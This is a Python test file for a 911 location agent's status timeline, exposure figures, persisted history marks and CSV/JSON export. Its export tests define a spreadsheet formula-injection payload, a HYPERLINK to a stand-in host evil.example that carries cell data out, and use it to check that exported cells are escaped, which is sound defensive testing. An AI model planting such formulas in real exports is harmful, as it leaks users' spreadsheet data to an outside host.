"""The past of the light: spans without holes, exposure as it was, records that survive, files that run nothing."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.control import DecisionRecord
from agent.light.timeline import Mark, State, timeline
from agent.model import CivicAddress, StatusKind
from agent.notify.book import NoticeBook
from agent.page.views.export import as_csv, as_json, cell, history
from agent.page.views.picture import picture
from agent.say import say
from agent.storage.store import DecisionRow, Store
from tests.notify.samples import notice

NOON = 1_795_500_000.0
HOUR = 3600.0
KINDS = [*StatusKind, "off"]


def state(hours_ago: float, kind: str, cause: str = "x") -> State:
    return State(NOON - hours_ago * HOUR, kind, cause, f"It is {kind}.")


def test_spans_follow_each_other_from_the_beginning_to_now() -> None:
    line = timeline([state(30, "bound"), state(3, "offline"), state(2, "bound")], [], NOON - 24 * HOUR, NOON)
    assert [(one.kind, one.seconds / HOUR) for one in line.spans] == [("bound", 21), ("offline", 1), ("bound", 2)]
    assert (line.exposure.proven, line.exposure.exposed, line.exposure.unknown) == (23 * HOUR, HOUR, 0)
    assert (line.exposure.windows, line.exposure.longest) == (1, HOUR)


def test_s12_what_was_not_recorded_is_unknown_and_never_proven() -> None:
    line = timeline([state(3, "bound"), state(2, "off"), state(1, "bound")], [], NOON - 24 * HOUR, NOON)
    assert [one.kind for one in line.spans] == ["off", "bound", "off", "bound"]
    assert (line.exposure.unknown, line.exposure.proven, line.exposure.exposed) == (22 * HOUR, 2 * HOUR, 0)
    assert timeline([], [], NOON - HOUR, NOON).exposure.unknown == HOUR


def test_one_exposure_goes_through_several_states_and_ends_with_the_proof() -> None:
    line = timeline(
        [state(9, "bound"), state(8, "offline"), state(7, "unbound"), state(5, "bound"), state(1, "provisional")],
        [],
        NOON - 9 * HOUR,
        NOON,
    )
    assert (line.exposure.windows, line.exposure.longest, line.exposure.exposed) == (2, 3 * HOUR, 4 * HOUR)


def test_the_same_state_said_again_is_one_span() -> None:
    line = timeline([state(3, "bound"), state(2, "bound"), state(1, "bound", "y")], [], NOON - 3 * HOUR, NOON)
    assert [one.seconds / HOUR for one in line.spans] == [2, 1]


@given(st.lists(st.tuples(st.floats(0, 50), st.sampled_from(KINDS)), max_size=12))
def test_spans_have_no_holes_whatever_the_clock_did(changes: list[tuple[float, str]]) -> None:
    line = timeline([state(ago, kind) for ago, kind in changes], [], NOON - 24 * HOUR, NOON)
    edges = [NOON - 24 * HOUR, *(one.end for one in line.spans)]
    assert [one.start for one in line.spans] == edges[:-1]
    assert edges[-1] == NOON
    figures = line.exposure
    assert figures.proven + figures.exposed + figures.unknown == pytest.approx(24 * HOUR)


def test_marks_of_another_time_are_not_shown_and_the_picture_has_a_lane_for_what_happened() -> None:
    marks = [Mark(NOON - 30 * HOUR, "call", "old"), Mark(NOON - HOUR, "moved", "new")]
    drawn = picture(timeline([state(30, "bound"), state(6, "fault")], marks, NOON - 24 * HOUR, NOON), None)
    assert [(lane.css, lane.bars) for lane in drawn.lanes] == [
        ("good", (("0.000%", "75.000%"),)),
        ("bad", (("75.000%", "25.000%"),)),
    ]
    assert [place for place, _, _ in drawn.marks] == ["95.833%"]
    assert len(drawn.ticks) == 4


def test_bars_and_marks_that_nobody_could_tell_apart_are_drawn_once() -> None:
    minute = HOUR / 60
    states = [State(NOON - 24 * HOUR + index * minute / 2, KINDS[index % 2], "x", "") for index in range(120)]
    marks = [Mark(NOON - HOUR + index, "moved", "x") for index in range(100)] + [Mark(NOON - HOUR + 2, "call", "x")]
    line = timeline([*states, state(23, "bound")], marks, NOON - 24 * HOUR, NOON)
    drawn = picture(line, None)
    for lane in drawn.lanes:
        assert len(lane.bars) == 1, "an hour of half minutes, each narrower than a pixel"
    assert [word for _, _, word in drawn.marks] == ["Moved", "Emergency call"]
    kept = picture(
        timeline([state(24, "bound"), state(12, "fault"), state(11, "bound")], [], NOON - 24 * HOUR, NOON), None
    )
    assert [len(lane.bars) for lane in kept.lanes] == [2, 1], "an hour is not swallowed"


def test_ticks_stand_at_the_hours_that_clocks_showed_on_the_day_when_they_were_set_back(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("TZ", "America/Los_Angeles")
    time.tzset()
    try:
        until = datetime(2026, 11, 1, 20, tzinfo=UTC).timestamp()  # noon there; 02:00 was 01:00 again that night
        drawn = picture(timeline([], [], until - 24 * HOUR, until), None)
        assert drawn.ticks == (("20.833%", "18:00"), ("45.833%", "00:00"), ("75.000%", "06:00"), ("100.000%", "12:00"))
        assert picture(timeline([], [], until - 7 * 24 * HOUR, until), None).ticks[0] == ("6.548%", "26 Oct")
    finally:
        monkeypatch.undo()
        time.tzset()


# ------------------------------------------------------------------ on disk


def test_a_change_is_on_disk_after_keep_and_a_power_cut_is_a_stretch_of_not_knowing(tmp_path: Path) -> None:
    store = Store(tmp_path / "agent.db")
    store.past.opened()
    store.past.changed(NOON - 9 * HOUR, StatusKind.BOUND, "proven", say("911 sends help to {where}.", where="1 Main"))
    assert [one.kind for one in store.past.states(NOON - 24 * HOUR)] == ["bound"], "what waits is shown"
    store.past.keep(NOON - 9 * HOUR)
    store.past.keep(NOON - 5 * HOUR)
    store.close()
    again = Store(tmp_path / "agent.db")
    again.past.opened()
    again.past.changed(NOON - HOUR, StatusKind.CONNECTING, "starting", "Starting.")
    again.past.closed(NOON - HOUR / 2)
    states = again.past.states(NOON - 24 * HOUR)
    assert [(one.kind, (NOON - one.at) / HOUR) for one in states] == [
        ("bound", 9), ("off", 5), ("connecting", 1), ("off", 0.5),
    ]  # fmt: skip
    assert states[0].sentence == "911 sends help to 1 Main."
    assert again.past.states(NOON - 2 * HOUR)[0].kind == "off", "the state before is known"
    again.past.opened()
    assert len(again.past.states(0)) == 4, "an end that was recorded is not recorded twice"
    again.close()


def test_moves_confirmations_and_gaps_are_marked() -> None:
    store = Store(None)
    office, home = store.add_place([], NOON), store.add_place([], NOON)
    for at, place in enumerate((office, office, None, home, home)):
        store.add_decision(DecisionRow(NOON + at, 1, "new", place, (), (), "nothing", say("link {x} lost", x="eth0")))
    store.confirm(
        home, user_id="u", address_id="e", civic=CivicAddress("1", "A", "B", "CA", "94105"), at=NOON + 9, who="cli"
    )
    store.add_event(NOON + 10, "gap:suspend", 4.0, "the device slept for 4 s")
    marks = store.past.marks(NOON)
    assert [(one.kind, one.at - NOON) for one in marks] == [("moved", 3), ("confirmed", 9), ("gap", 10)]
    assert marks[0].text == "Moved to another place: link eth0 lost."
    assert store.past.marks(NOON + 4)[0].kind == "confirmed"


def test_a_test_call_is_not_marked_as_an_emergency_and_is_marked_once() -> None:
    store = Store(None)
    book = NoticeBook(store)
    for number, (dialed, after) in enumerate((("911", 0), ("933", 100), ("933", 501))):
        made = notice(uid=f"n{number}", call=f"c{number}", number=dialed, test=dialed == "933", dialed_at=NOON + after)
        book.save(made)
    with store.transaction() as db:
        db.execute("INSERT INTO test_calls (at, evidence) VALUES (?, '')", (NOON + 500,))
    marks = store.past.marks(NOON - 1)
    assert [(one.kind, one.at - NOON) for one in marks] == [("call", 0), ("test", 100), ("test", 500)]
    assert [one.text for one in marks] == ["Emergency call.", "Test call to 933.", "Test call to 933."]


# ------------------------------------------------------------------ files

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_no_cell_is_taken_for_a_formula(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert cell(f"about {text}") == f"about {text}"


def test_the_files_hold_states_events_and_the_decisions_of_their_time() -> None:
    decisions = tuple(
        DecisionRecord(NOON - ago * HOUR, 1, "new", ("place_new",), (FORMULA, "b"), "nothing", FORMULA)
        for ago in (1, 30)
    )
    marks = [Mark(NOON - HOUR / 2, "call", FORMULA)]
    past = history(timeline([state(30, "bound"), state(2, "offline")], marks, NOON - 24 * HOUR, NOON), decisions)
    rows = list(csv.DictReader(io.StringIO(as_csv(past).decode("utf-8-sig"))))
    assert [(row["record"], row["kind"]) for row in rows] == [
        ("state", "bound"), ("state", "offline"), ("decision", "new"), ("event", "call"),
    ]  # fmt: skip
    assert rows[2]["cause"] == rows[3]["text"] == f"'{FORMULA}"
    assert rows[2]["evidence"] == f"'{FORMULA}; b"
    assert rows[0]["time"] == "2026-11-23T06:00:00.000Z"
    read = msgspec.json.decode(as_json(past))
    assert [one["kind"] for one in read["spans"]] == ["bound", "offline"]
    assert read["exposure"]["exposed"] == 2 * HOUR
    assert len(read["decisions"]) == 1
